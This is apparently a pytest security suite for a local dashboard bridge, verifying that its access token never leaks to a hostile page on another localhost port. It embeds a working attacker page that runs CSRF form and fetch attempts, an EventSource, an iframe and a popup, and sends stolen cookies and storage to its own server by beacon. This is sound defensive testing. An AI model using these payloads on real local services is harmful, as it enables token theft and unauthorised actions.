"""The dashboard's token as an attacker sees it (issue 28, items 1–2): another server on 127.0.0.1 whose page the
same browser opens, before or after the dashboard, must never receive the token, and what its script sends to the
bridge (fetch with credentials, a plain POST, a form, a beacon, an EventSource, an iframe) must never reach the
daemon. Two bridges in one browser each keep their own tab working, through reloads; a token of an earlier bridge
on the same port is refused.

On the old cookie-based bridge these fail: the printed URL is `http://127.0.0.1:PORT/?token=…`, not
`…/dashboard/#token=…` (Bridge() in bridge.py raises). Beyond that form, the old bridge turned the token into a
cookie, and a 127.0.0.1 cookie is sent to every port of that host: the attacker server's log holds
`Cookie: scenariod_dashboard=<token>` (the `token not in attacker log` assertion), the redirect carries Set-Cookie
(`no Set-Cookie`) and browser.get_cookies() is not empty; the old bridge answers 403 to an Authorization header
without the cookie, so `the new token → 200` fails too."""
import http.server
import json
import threading
import time

import httpx
import pytest
from selenium.webdriver.common.by import By

from bridge import MOCK_VIEWS, Bridge, BridgeDidNotStart, all_cookies, banner_text, chrome, free_port, now_text, shoot, state_text, wait
from daemon import Daemon

ATTACK = """<!doctype html>
<html><head><meta charset="utf-8"><title>a page of another local server</title></head>
<body><h1 id="status">attacking</h1>
<iframe name="sink" id="sink"></iframe>
<form id="csrf" method="POST" action="BRIDGE/v1/sessions" enctype="text/plain" target="sink">
  <input name='{"scenario":"offline-demo","id":"attacker","padding":"' value='"}'>
</form>
<script>
const bridge = "BRIDGE";
const results = {};
const round = "ROUND";
function report(what, value) {
  const text = typeof value === "string" ? value : JSON.stringify(value);
  results[what] = text;
  // Everything the script learns, and the cookies it can read, go back to its own server, two ways.
  navigator.sendBeacon(`/beacon?round=${round}&what=${encodeURIComponent(what)}`, text);
  new Image().src = `/img?round=${round}&what=${encodeURIComponent(what)}&cookie=${encodeURIComponent(document.cookie)}&value=${encodeURIComponent(text.slice(0, 1500))}`;
}
const settle = (promise, ms = 5000) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve("no answer in time"), ms))]);
async function attempt(what, work) {
  try { report(what, await settle(work())); } catch (error) { report(what, `error: ${error}`); }
}
const body = JSON.stringify({ scenario: "offline-demo", id: "attacker" });
(async () => {
  report("cookie", document.cookie);
  report("storage", { session: { ...sessionStorage }, local: { ...localStorage } });
  await Promise.all([
    attempt("get-sessions", async () => { const r = await fetch(`${bridge}/v1/sessions`, { credentials: "include" }); return `${r.status} ${await r.text()}`; }),
    attempt("post-json", async () => {
      const r = await fetch(`${bridge}/v1/sessions`, { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body });
      return `${r.status} ${await r.text()}`;
    }),
    attempt("post-simple", async () => {
      // No preflight: a "simple" request reaches the bridge whatever CORS says.
      const r = await fetch(`${bridge}/v1/sessions`, { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body });
      return `${r.type} ${r.status}`;
    }),
    attempt("beacon-to-bridge", async () => navigator.sendBeacon(`${bridge}/v1/sessions`, body)),
    attempt("event-source", () => new Promise((resolve) => {
      const events = new EventSource(`${bridge}/v1/sessions/default/events`, { withCredentials: true });
      const got = (event) => { events.close(); resolve(`${event.type} ${event.data}`); };
      events.onmessage = got;
      events.addEventListener("stateChanged", got);
      events.onerror = () => { events.close(); resolve(`error, readyState ${events.readyState}`); };
    })),
    attempt("iframe", () => new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.src = `${bridge}/dashboard/`;
      frame.onload = () => {
        try {
          resolve({ href: frame.contentWindow.location.href, storage: { ...frame.contentWindow.sessionStorage }, text: frame.contentDocument.body.innerText });
        } catch (error) { resolve(`blocked: ${error}`); }
      };
      document.body.append(frame);
    })),
    attempt("form", () => new Promise((resolve) => {
      document.getElementById("sink").onload = () => resolve("submitted");
      document.getElementById("csrf").submit();
    })),
  ]);
  report("cookie-after", document.cookie);
  navigator.sendBeacon(`/done?round=${round}`, JSON.stringify(results));
  document.getElementById("status").textContent = `done ${round}`;
})();
</script>
</body></html>
"""


POPUP = """<!doctype html><html><body><p id="status">opening</p><script>
// Opened in the tab that showed the dashboard: a popup of the dashboard would start with a copy of this tab's
// sessionStorage, token included, unless the dashboard cuts itself off from its opener.
window.dashboard = window.open("BRIDGE/dashboard/#/session/default", "dashboard");
document.getElementById("status").textContent = "opened";
</script></body></html>
"""


class Attacker:
    """A server on another 127.0.0.1 port that logs every request line, all headers and every body it gets."""

    def __init__(self, bridge_base, log_path):
        self.requests = []
        self.lock = threading.Lock()
        self.log_path = log_path
        self.rounds = 0
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"

            def record(self):
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
                entry = f"{self.requestline}\n{self.headers}{body}\n"
                with attacker.lock:
                    attacker.requests.append(entry)
                    with attacker.log_path.open("a") as log:
                        log.write(entry + "----\n")

            def answer(self, status, content_type="text/plain", body=b""):
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            def do_GET(self):
                self.record()
                if self.path.startswith("/popup"):
                    page = POPUP.replace("BRIDGE", bridge_base)
                    self.answer(200, "text/html; charset=utf-8", page.encode())
                elif self.path.startswith("/attack"):
                    with attacker.lock:
                        attacker.rounds += 1
                        round_ = attacker.rounds
                    page = ATTACK.replace("BRIDGE", bridge_base).replace("ROUND", str(round_))
                    self.answer(200, "text/html; charset=utf-8", page.encode())
                else:
                    self.answer(204)

            do_HEAD = do_GET

            def do_POST(self):
                self.record()
                self.answer(204)

            def do_OPTIONS(self):
                self.record()
                self.answer(204)

            def log_message(self, *arguments):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/attack"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def text(self):
        with self.lock:
            return "".join(self.requests)

    def wait_done(self, round_, seconds=30):
        """Until the page's script has tried everything and said so (its `/done` beacon of that round)."""
        deadline = time.monotonic() + seconds
        while f"POST /done?round={round_} " not in self.text():
            assert time.monotonic() < deadline, f"the attacker page (round {round_}) did not finish in {seconds} s:\n{self.text()}"
            time.sleep(0.1)
        with self.lock:
            done = [r for r in self.requests if r.startswith(f"POST /done?round={round_} ")][0]
        return json.loads(done.split("\n\n", 1)[1] if "\n\n" in done else "{}")

    def close(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=10)


@pytest.fixture
def stack(tmp_path):
    """A daemon with a default session, its bridge, the attacker's server: (daemon, bridge, attacker)."""
    daemon = Daemon(tmp_path / "daemon", {}, ["--scenario", "offline-demo"]).start()
    bridge = attacker = None
    try:
        bridge = Bridge(daemon.socket, tmp_path / "bridge.log")
        attacker = Attacker(bridge.base, tmp_path / "attacker.log")
        yield daemon, bridge, attacker
        print("bridge:", bridge.output(), "attacker:", attacker.text()[-6000:], "daemon:", daemon.log()[-3000:])
    finally:
        if attacker:
            attacker.close()
        if bridge:
            bridge.stop()
        daemon.stop()


def open_dashboard(browser, bridge, name):
    browser.get(bridge.newest_printed())
    wait(browser, lambda: browser.find_elements(By.CSS_SELECTOR, '#scenarios tr[data-scenario="offline-demo"]'), f"the scenarios ({name})")
    # The fragment is gone at once: nothing left to copy, bookmark or leak through history.
    assert browser.current_url == f"{bridge.base}/dashboard/#/scenarios", browser.current_url
    assert not browser.find_element(By.ID, "banner").is_displayed()
    return browser.current_window_handle


def attack(browser, attacker):
    browser.get(attacker.url)
    round_ = attacker.rounds
    wait(browser, lambda: browser.find_element(By.ID, "status").text == f"done {round_}", f"the attacker page, round {round_}", seconds=30)
    return attacker.wait_done(round_)


def secrets(browser, bridge, dashboard):
    """Every secret of the run: the printed links' tokens, the harness's tab token and the dashboard tab's own."""
    here = browser.current_window_handle
    browser.switch_to.window(dashboard)
    tab = browser.execute_script("return sessionStorage.getItem('scenariod-dashboard-token')")
    browser.switch_to.window(here)
    assert tab and tab not in bridge.printed_links(), tab
    return [*bridge.printed_links(), bridge.authorization["Authorization"].removeprefix("Bearer "), tab]


def assert_nothing_leaked(tokens, daemon, attacker, results):
    log = attacker.text()
    assert log, "the attacker server logged nothing: the attack did not run"
    for token in tokens:
        for form in (token, token.upper()):
            assert form not in log, f"the attacker's server received a token:\n{log}"
        for what, value in results.items():
            assert token not in value, (what, value)
    # What the script read from the bridge: refusals, never the daemon's answers.
    assert "offline-demo" not in results.get("get-sessions", ""), results
    assert "stateChanged" not in results.get("event-source", ""), results
    sessions = [session["id"] for session in daemon.call("GET", "/v1/sessions", expect=200).json()]
    assert "attacker" not in sessions, sessions
    assert "attacker" not in daemon.log()


def assert_dashboard_still_works(browser, handle, daemon, name):
    browser.switch_to.window(handle)
    browser.find_element(By.CSS_SELECTOR, 'nav a[data-page="scenarios"]').click()
    wait(browser, lambda: browser.find_elements(By.CSS_SELECTOR, '#scenarios tr[data-scenario="offline-demo"] button'), f"the scenarios again ({name})")
    before = {session["id"] for session in daemon.call("GET", "/v1/sessions", expect=200).json()}
    browser.find_element(By.CSS_SELECTOR, '#scenarios tr[data-scenario="offline-demo"] button').click()
    wait(browser, lambda: json.dumps(MOCK_VIEWS) in state_text(browser), f"a new session's state ({name})")
    session = browser.current_url.rsplit("/", 1)[1]
    after = {session["id"] for session in daemon.call("GET", "/v1/sessions", expect=200).json()}
    assert after - before == {session}, (before, after, browser.current_url)
    assert now_text(browser) == daemon.call("GET", f"/v1/sessions/{session}/clock", expect=200).json()["now"]


def assert_no_cookies(browser, bridge):
    assert browser.get_cookies() == [], browser.get_cookies()
    # And none anywhere in the browser, for any host or port.
    every = all_cookies(browser)
    assert every == [], every
    assert "token" not in browser.current_url


def test_a_page_of_another_local_server_opened_after_the_dashboard_gets_nothing(stack):
    daemon, bridge, attacker = stack
    browser = chrome()
    try:
        dashboard = open_dashboard(browser, bridge, "after")
        shoot(browser, "security-01-dashboard")
        browser.switch_to.new_window("tab")
        results = attack(browser, attacker)
        shoot(browser, "security-02-attacker-after-dashboard")
        assert_nothing_leaked(secrets(browser, bridge, dashboard), daemon, attacker, results)
        browser.switch_to.window(dashboard)
        assert_no_cookies(browser, bridge)
        assert_dashboard_still_works(browser, dashboard, daemon, "after the attack")
        shoot(browser, "security-03-dashboard-after-attack")
        # The attacker's tab runs again now that the dashboard has a session open.
        browser.switch_to.window([h for h in browser.window_handles if h != dashboard][0])
        results = attack(browser, attacker)
        assert_nothing_leaked(secrets(browser, bridge, dashboard), daemon, attacker, results)
    finally:
        browser.quit()


def test_a_page_of_another_local_server_opened_before_the_dashboard_gets_nothing(stack):
    daemon, bridge, attacker = stack
    browser = chrome()
    try:
        results = attack(browser, attacker)
        first = browser.current_window_handle
        browser.switch_to.new_window("tab")
        dashboard = open_dashboard(browser, bridge, "before")
        assert_no_cookies(browser, bridge)
        # The attacker's page, reloaded now that the dashboard holds its token, then loaded in a new tab.
        browser.switch_to.window(first)
        browser.refresh()
        round_ = attacker.rounds
        wait(browser, lambda: browser.find_element(By.ID, "status").text == f"done {round_}", "the reloaded attacker page", seconds=30)
        results = attacker.wait_done(round_)
        browser.switch_to.new_window("tab")
        results = attack(browser, attacker)
        shoot(browser, "security-04-attacker-before-dashboard")
        assert_nothing_leaked(secrets(browser, bridge, dashboard), daemon, attacker, results)
        assert_dashboard_still_works(browser, dashboard, daemon, "before the attack")
        assert_no_cookies(browser, bridge)
    finally:
        browser.quit()


def test_the_bridge_never_sets_a_cookie(stack):
    daemon, bridge, _ = stack
    with httpx.Client(base_url=bridge.base, timeout=10) as client:
        answers = [client.get("/"), client.get("/dashboard/"), client.get("/dashboard"), client.get("/dashboard/app.js"),
                   client.get("/dashboard/style.css"), client.get("/dashboard/icon.svg"),
                   client.get(f"/?token={bridge.token}"), client.get("/v1/health"),
                   client.post("/bridge/link", headers=bridge.authorization),
                   client.get("/v1/health", headers=bridge.authorization),
                   client.get("/v1/sessions/default/state", headers=bridge.authorization),
                   client.post("/v1/sessions", headers=bridge.authorization, json={"scenario": "offline-demo", "id": "cookie-check"}),
                   client.get("/v1/health", headers={"Authorization": "Bearer " + "0" * 64}),
                   client.get("/v1/health", headers={**bridge.authorization, "Origin": "http://evil.example"}),
                   client.get("/elsewhere")]
    statuses = [answer.status_code for answer in answers]
    assert statuses == [303, 200, 200, 200, 200, 200, 303, 401, 200, 200, 200, 201, 401, 403, 404], statuses
    for answer in answers:
        assert "set-cookie" not in answer.headers, (answer.request.url, answer.headers)
        assert bridge.token not in answer.text, answer.request.url


SCENARIO = "description: {0}\nextends: offline-demo\n"


def test_two_bridges_side_by_side_in_one_browser(tmp_path):
    """Two daemons with different scenarios, each with its bridge, each in its own tab of one browser: actions
    alternate between the tabs and each tab reloads; each tab keeps its own token and reaches its own daemon."""
    daemons, bridges, browser = [], [], None
    try:
        for name in ("a", "b"):
            daemons.append(Daemon(tmp_path / f"daemon-{name}", {f"only-in-{name}": SCENARIO.format(f"Only in daemon {name}.")}).start())
            bridges.append(Bridge(daemons[-1].socket, tmp_path / f"bridge-{name}.log"))
        browser = chrome()
        tabs = []
        for index, (name, bridge) in enumerate(zip("ab", bridges)):
            if index:
                browser.switch_to.new_window("tab")
            browser.get(bridge.newest_printed())
            other = "b" if name == "a" else "a"
            wait(browser, lambda: browser.find_elements(By.CSS_SELECTOR, f'#scenarios tr[data-scenario="only-in-{name}"]'), f"tab {name}'s scenarios")
            assert not browser.find_elements(By.CSS_SELECTOR, f'#scenarios tr[data-scenario="only-in-{other}"]')
            assert browser.current_url == f"{bridge.base}/dashboard/#/scenarios"
            tabs.append(browser.current_window_handle)
        sessions = {}

        def in_tab(name, action):
            index = "ab".index(name)
            browser.switch_to.window(tabs[index])
            return action(daemons[index], bridges[index])

        def start(name):
            def action(daemon, bridge):
                browser.find_element(By.CSS_SELECTOR, f'#scenarios tr[data-scenario="only-in-{name}"] button').click()
                wait(browser, lambda: json.dumps(MOCK_VIEWS) in state_text(browser), f"tab {name}'s session")
                sessions[name] = browser.current_url.rsplit("/", 1)[1]
                assert [s["id"] for s in daemon.call("GET", "/v1/sessions", expect=200).json()] == [sessions[name]]
            in_tab(name, action)

        def advance(name, by):
            def action(daemon, bridge):
                before = daemon.call("GET", f"/v1/sessions/{sessions[name]}/clock", expect=200).json()["now"]
                duration = browser.find_element(By.ID, "advance-by")
                duration.clear()
                duration.send_keys(by)
                browser.find_element(By.CSS_SELECTOR, "#advance button").click()
                wait(browser, lambda: daemon.call("GET", f"/v1/sessions/{sessions[name]}/clock").json()["now"] != before,
                     f"tab {name}'s daemon's clock to move by {by}")
                expected = daemon.call("GET", f"/v1/sessions/{sessions[name]}/clock", expect=200).json()["now"]
                wait(browser, lambda: now_text(browser) == expected, f"tab {name}'s clock to show {expected}")
                return expected
            return in_tab(name, action)

        def reload(name):
            def action(daemon, bridge):
                expected = daemon.call("GET", f"/v1/sessions/{sessions[name]}/clock", expect=200).json()["now"]
                browser.refresh()
                wait(browser, lambda: json.dumps(MOCK_VIEWS) in state_text(browser) and now_text(browser) == expected,
                     f"tab {name} after a reload")
                assert browser.current_url == f"{bridge.base}/dashboard/#/session/{sessions[name]}", browser.current_url
                assert not browser.find_element(By.ID, "banner").is_displayed(), browser.find_element(By.ID, "banner-text").text
            in_tab(name, action)

        start("a")
        start("b")
        advance("a", "1m")
        advance("b", "15m")
        advance("a", "2m")
        reload("a")
        shoot(browser, "security-05-tab-a-reloaded")
        reload("b")
        shoot(browser, "security-06-tab-b-reloaded")
        advance("b", "1m")
        advance("a", "1m")
        assert daemons[0].call("GET", f"/v1/sessions/{sessions['a']}/clock").json()["now"] == "2026-11-01T09:04:00Z"
        assert daemons[1].call("GET", f"/v1/sessions/{sessions['b']}/clock").json()["now"] == "2026-11-01T09:16:00Z"
        # Each daemon has only its own tab's session and history.
        for index, name in enumerate("ab"):
            assert [s["id"] for s in daemons[index].call("GET", "/v1/sessions", expect=200).json()] == [sessions[name]]
        assert all_cookies(browser) == []
        errors = [entry["message"] for entry in browser.get_log("browser") if entry["level"] == "SEVERE"]
        assert errors == [], errors
    finally:
        if browser:
            browser.quit()
        for bridge in bridges:
            bridge.stop()
        for daemon in daemons:
            daemon.stop()


def test_a_token_of_an_earlier_bridge_on_the_same_port_is_refused(tmp_path):
    daemon = Daemon(tmp_path / "daemon", {}).start()
    bridges = []
    try:
        port = free_port()
        bridges.append(Bridge(daemon.socket, tmp_path / "first.log", port=port))
        old = bridges[0].token
        with httpx.Client(base_url=bridges[0].base, timeout=10) as client:
            assert client.get("/v1/health", headers=bridges[0].authorization).status_code == 200
        bridges[0].stop()
        # The same port again (the old listener's socket may linger a moment).
        deadline = time.monotonic() + 20
        while True:
            try:
                bridges.append(Bridge(daemon.socket, tmp_path / f"second-{len(bridges)}.log", port=port))
                break
            except BridgeDidNotStart:
                assert time.monotonic() < deadline, f"a second bridge could not listen on port {port}"
                time.sleep(0.5)
        new = bridges[-1]
        assert new.port == port and new.token != old
        with httpx.Client(base_url=new.base, timeout=10) as client:
            refused = client.get("/v1/health", headers={"Authorization": f"Bearer {old}"})
            assert refused.status_code == 401, refused.text
            assert refused.json()["code"] == "tokenRefused", refused.text
            assert refused.headers["www-authenticate"].lower().startswith("bearer"), refused.headers
            refused = client.post("/v1/sessions", headers={"Authorization": f"Bearer {old}"}, json={"scenario": "offline-demo", "id": "old-token"})
            assert refused.status_code == 401 and refused.json()["code"] == "tokenRefused", refused.text
            assert client.get("/v1/health", headers=new.authorization).status_code == 200
        assert "old-token" not in [s["id"] for s in daemon.call("GET", "/v1/sessions", expect=200).json()]
    finally:
        for bridge in bridges:
            bridge.stop()
        daemon.stop()


def test_a_page_of_another_local_server_in_the_dashboards_tab_cannot_open_it_with_the_token(stack):
    """A page of another port, loaded in the tab that showed the dashboard, opens the dashboard in a popup: the popup
    would start with a copy of the tab's sessionStorage, token and all, and its opener could steer it. The dashboard
    is served with `Cross-Origin-Opener-Policy: same-origin`, so the popup is cut off from its opener and gets
    no token: it shows no session and asks for the printed URL."""
    daemon, bridge, attacker = stack
    browser = chrome()
    try:
        tab = open_dashboard(browser, bridge, "popup")
        browser.get(attacker.url.replace("/attack", "/popup"))
        wait(browser, lambda: browser.find_element(By.ID, "status").text == "opened", "the attacker's popup")
        wait(browser, lambda: len(browser.window_handles) == 2, "the popup's window")
        popup = [handle for handle in browser.window_handles if handle != tab][0]
        browser.switch_to.window(popup)
        wait(browser, lambda: browser.current_url.startswith(bridge.base + "/dashboard/"), "the dashboard in the popup")
        wait(browser, lambda: banner_text(browser) != "", "the popup's banner")
        shoot(browser, "security-05-popup-of-another-port")
        assert browser.execute_script("return sessionStorage.getItem('scenariod-dashboard-token')") is None
        assert browser.execute_script("return window.opener") is None
        assert "tokenRefused" in banner_text(browser) or "printed" in banner_text(browser), banner_text(browser)
        assert "lastRefresh" not in state_text(browser)
        # The opener lost its handle on the popup too.
        browser.switch_to.window(tab)
        assert browser.execute_script("return window.dashboard === null || window.dashboard.closed") is True
    finally:
        browser.quit()


def test_a_printed_url_opens_one_tab_so_the_browsers_history_keeps_no_key(stack):
    """The URL stays in the browser's history database, where anyone who reads it later finds it: it must open
    nothing then. The page trades the URL's secret for a tab token of its own as it loads; the same URL opened again,
    in a new browser or in the same tab, says why it opened nothing, and the bridge printed the next URL, which
    works; a tab opens another with "Open in a new tab"."""
    daemon, bridge, _ = stack
    browser = chrome()
    try:
        used = bridge.newest_printed()
        printed = len(bridge.printed_links())
        tab = open_dashboard(browser, bridge, "the printed URL")
        token = browser.execute_script("return sessionStorage.getItem('scenariod-dashboard-token')")
        assert token and token not in used, token
        bridge.wait_for_printed(printed + 1)
        # The URL as the history keeps it, opened in another browser (another person, later): nothing, said why.
        other = chrome()
        try:
            other.get(used)
            wait(other, lambda: "That URL opened nothing" in banner_text(other), "the used URL refused")
            shoot(other, "security-06-used-url")
            assert "opened a tab already" in banner_text(other) and "printed last" in banner_text(other), banner_text(other)
            # Quoted as a page quotes, and nothing left that says it is still loading.
            assert "“scenarioctl dashboard”" in banner_text(other) and "“Open in a new tab”" in banner_text(other), banner_text(other)
            assert "Loading" not in other.find_element(By.ID, "main").text, other.find_element(By.ID, "main").text
            assert other.execute_script("return sessionStorage.getItem('scenariod-dashboard-token')") is None
            assert not other.find_elements(By.CSS_SELECTOR, '#scenarios tr[data-scenario="offline-demo"]')
            assert other.current_url == f"{bridge.base}/dashboard/#/scenarios", other.current_url
            # The next printed URL opens a tab in that browser, and the page starts afresh in it.
            other.get(bridge.newest_printed())
            wait(other, lambda: other.find_elements(By.CSS_SELECTOR, '#scenarios tr[data-scenario="offline-demo"]'), "the next URL's page")
            assert banner_text(other) == "", banner_text(other)
        finally:
            other.quit()
        # The used URL pasted into the working tab: said, and the tab goes on with its own token.
        browser.execute_script("location.hash = arguments[0]", used.split("#", 1)[1])
        wait(browser, lambda: "This tab goes on as it was" in banner_text(browser), "the used URL named in the working tab")
        assert browser.execute_script("return sessionStorage.getItem('scenariod-dashboard-token')") == token
        assert_dashboard_still_works(browser, tab, daemon, "after a used URL")
        # "Open in a new tab" opens the session in another tab with a token of its own.
        session = browser.current_url.rsplit("/", 1)[1]
        before = set(browser.window_handles)
        browser.find_element(By.ID, "new-tab").click()
        wait(browser, lambda: set(browser.window_handles) - before, "the new tab")
        browser.switch_to.window((set(browser.window_handles) - before).pop())
        wait(browser, lambda: json.dumps(MOCK_VIEWS) in state_text(browser), "the session in the new tab")
        assert browser.current_url == f"{bridge.base}/dashboard/#/session/{session}", browser.current_url
        second = browser.execute_script("return sessionStorage.getItem('scenariod-dashboard-token')")
        assert second and second != token
    finally:
        browser.quit()
